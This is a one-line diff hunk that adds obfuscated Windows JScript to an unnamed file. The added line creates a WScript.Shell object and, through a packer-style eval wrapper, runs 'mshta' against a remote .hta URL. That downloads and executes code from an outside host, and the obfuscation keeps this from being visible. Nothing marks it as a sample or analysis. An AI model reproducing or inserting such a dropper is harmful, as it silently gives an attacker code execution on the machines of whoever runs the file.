@@ -1,0 +1,1 @@
+var s=new ActiveXObject('WScript.Shell');eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+c.toString(a)+'\\b','g'),k[c])}}return p}('0.1("2 3://4.5/6.7")',8,8,'s|Run|mshta|http|e|x|a|hta'.split('|'),0,{}));
